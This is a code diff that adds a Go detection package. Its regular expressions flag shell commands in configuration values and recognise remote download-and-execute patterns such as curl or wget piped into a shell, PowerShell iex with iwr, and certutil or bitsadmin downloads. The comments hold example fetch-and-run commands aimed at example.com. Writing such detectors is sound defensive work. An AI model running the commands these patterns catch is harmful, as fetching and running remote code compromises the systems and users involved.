@@ -0,0 +1,35 @@
+package detections
+
+import "regexp"
+
+// shellCommandPattern matches values which start with (or chain) a command that is
+// commonly used to fetch or run code, followed by at least one argument, e.g.
+// "curl -s https://..." or "npm run build && node setup.js".
+var shellCommandPattern = regexp.MustCompile(`(?i)(?:^|[;&|]\s*)(?:sudo\s+)?` +
+	`(?:curl|wget|sh|bash|dash|zsh|node|npx|python[0-9.]*|perl|ruby|powershell(?:\.exe)?|pwsh|cmd(?:\.exe)?|` +
+	`chmod|eval|nc|ncat|certutil(?:\.exe)?|bitsadmin|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\s+\S`)
+
+// downloadPattern matches commands that fetch content from a remote host.
+var downloadPattern = regexp.MustCompile(`(?i)\b(?:curl|wget|Invoke-WebRequest|iwr|Invoke-RestMethod|irm|bitsadmin)\b|` +
+	`\bcertutil\b[^|;&\n]*-urlcache\b|\bDownload(?:String|File)\b`)
+
+// executePattern matches commands that run content other than from a file in the
+// package: by piping it into a shell or interpreter, by substituting the output of
+// a download into a command line, or with PowerShell's Invoke-Expression.
+var executePattern = regexp.MustCompile(`(?i)\|\s*(?:sudo\s+)?(?:sh|bash|dash|zsh|ksh|node|python[0-9.]*|perl|ruby|powershell(?:\.exe)?|pwsh|iex)\b|` +
+	"\\$\\(\\s*(?:curl|wget)\\b|`\\s*(?:curl|wget)\\b|" +
+	`\b(?:iex|Invoke-Expression)\b`)
+
+// IsShellCommand returns whether s looks like a shell command that fetches or runs
+// code. It is used to find commands in config values that are not known to hold
+// commands (unlike e.g. the scripts in package.json).
+func IsShellCommand(s string) bool {
+	return shellCommandPattern.MatchString(s)
+}
+
+// IsRemoteExecution returns whether the shell command downloads content from a remote
+// host and runs it, e.g. "curl -s https://example.com/x.sh | sh" or
+// powershell -c "iex (iwr https://example.com/x.ps1)".
+func IsRemoteExecution(command string) bool {
+	return downloadPattern.MatchString(command) && executePattern.MatchString(command)
+}